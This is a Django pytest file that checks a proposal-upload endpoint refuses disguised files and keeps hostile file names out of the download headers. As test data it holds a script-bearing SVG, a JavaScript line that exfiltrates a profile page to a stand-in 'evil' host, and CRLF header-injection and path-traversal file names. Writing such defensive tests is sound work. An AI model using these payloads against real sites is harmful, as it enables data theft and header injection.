"""Uploads that try to pass for what they are not, through HTTP.

Already proven in ``tests/intake/test_attachments.py`` and not repeated here: HTML and an
executable named ``.pdf`` refused, the size limit (one chunk and several), the empty file,
no file, names with ``/`` and ``\\`` kept as their last part and stored under a random name
inside MEDIA_ROOT, the download as an attachment with ``nosniff``, no URL serving
MEDIA_ROOT, and the upload without a CSRF token. The bytes themselves are sniffed in
``tests/intake/test_filetypes.py`` (zip bombs and encrypted entries included).

What follows: the browser's declared type is never believed, an archive dressed as an
Office document is refused, and a hostile file name cannot shape the download's headers.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts.models import User
from intake.models import Attachment, Proposal
from intake.states import ProposalState
from tests.factories import ProposalFactory
from tests.intake import samples

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_root")]

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JAVASCRIPT = b"fetch('/accounts/profile/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));"
NOT_OFFICE = samples.zip_of({"payload.html": samples.HTML, "readme.txt": b"Not a document."})


@pytest.fixture
def proposal(applicant: User) -> Proposal:
    return ProposalFactory(lead_applicant=applicant, state=ProposalState.INVITED, application=False)


def _upload(client: Client, proposal: Proposal, name: str, data: bytes, content_type: str) -> Any:
    upload = SimpleUploadedFile(name, data, content_type=content_type)
    return client.post(
        reverse("intake:application_attachments", kwargs={"pk": proposal.pk}), {"kind": "project_plan", "file": upload}
    )


@pytest.mark.parametrize(
    ("name", "data", "declared"),
    [
        ("plan.pdf", samples.HTML, "application/pdf"),
        ("plan.pdf", SVG, "application/pdf"),
        ("plan.pdf", JAVASCRIPT, "application/pdf"),
        ("plan.docx", NOT_OFFICE, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("budget.xlsx", samples.EXE, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
    ids=["html-as-pdf", "svg-as-pdf", "script-as-pdf", "zip-as-docx", "exe-as-xlsx"],
)
def test_uploads_declared_type_and_name_never_believed(
    applicant_client: Client, proposal: Proposal, media_root: Path, name: str, data: bytes, declared: str
) -> None:
    response = _upload(applicant_client, proposal, name, data, declared)

    assert response.status_code == 400
    [error] = response.context["form"].errors["file"]
    assert error.startswith("This file is not a document we accept, whatever its name says.")
    assert not Attachment.objects.exists()
    assert not any(path.is_file() for path in media_root.rglob("*"))


def test_uploads_stored_type_is_the_sniffed_one_not_the_declared_one(
    applicant_client: Client, proposal: Proposal
) -> None:
    response = _upload(applicant_client, proposal, "plan.pdf", samples.MINIMAL_PDF, "text/html")

    assert response.status_code == 302
    attachment = Attachment.objects.get()
    download = applicant_client.get(reverse("intake:attachment_download", kwargs={"pk": attachment.pk}))
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("name", "disposition"),
    [
        # The client writes the name into the multipart header unescaped, as a hostile one would: the
        # server reads the last ``filename`` parameter, or the name up to the line break, and any
        # quote left in it is escaped in the download's header.
        ('plan"; filename="evil.html.pdf', 'attachment; filename="evil.html.pdf"'),
        ("plan\r\nSet-Cookie: sessionid=stolen.pdf", 'attachment; filename="\\"plan.pdf"'),
        ("../../../../etc/cron.d/job.pdf", 'attachment; filename="job.pdf"'),
        ("..\\..\\Windows\\System32\\evil.pdf", 'attachment; filename="evil.pdf"'),
        ("plan\x00.exe.pdf", 'attachment; filename="plan.exe.pdf"'),
        ("Plan d'ensemble é.pdf", "attachment; filename*=utf-8''Plan%20d%27ensemble%20%C3%A9.pdf"),
    ],
    ids=["quotes", "crlf", "posix-path", "windows-path", "nul", "non-ascii"],
)
def test_uploads_hostile_name_cannot_shape_the_download_headers(
    applicant_client: Client, proposal: Proposal, media_root: Path, name: str, disposition: str
) -> None:
    response = _upload(applicant_client, proposal, name, samples.MINIMAL_PDF, "application/pdf")
    assert response.status_code == 302
    attachment = Attachment.objects.get()

    download = applicant_client.get(reverse("intake:attachment_download", kwargs={"pk": attachment.pk}))

    assert download["Content-Disposition"] == disposition
    assert "Set-Cookie" not in download.headers
    assert Path(attachment.file.path).resolve().is_relative_to(media_root.resolve())
